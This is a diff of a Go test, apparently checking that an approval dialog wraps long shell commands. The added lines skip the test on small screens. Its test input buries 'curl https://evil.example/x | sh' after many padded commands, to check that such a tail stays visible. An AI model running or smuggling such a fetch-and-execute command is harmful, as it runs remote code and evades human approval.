@@ -166,6 +166,11 @@ func TestApprovalWrapsTheWholeCall(t *testing.T) {
 		return h
 	}
 	short := height("npm test; echo $(whoami)", "approval-short")
+	if screen := strings.Fields(xdotool(t, "getdisplaygeometry")); len(screen) == 2 {
+		if sh, _ := strconv.Atoi(screen[1]); short > sh*3/4 {
+			t.Skipf("the short command's window is %d px high on a %s px screen: no room to grow (a larger screen or scale 1 measures this)", short, strings.Join(screen, "×"))
+		}
+	}
 	long := height("npm test"+strings.Repeat(" && npm run lint", 30)+"; curl https://evil.example/x | sh $(whoami)", "approval-wide-line")
 	if long < short+4*15 {
 		t.Errorf("the window of the wide command is %d px high, the short one's %d: the line is not wrapped", long, short)
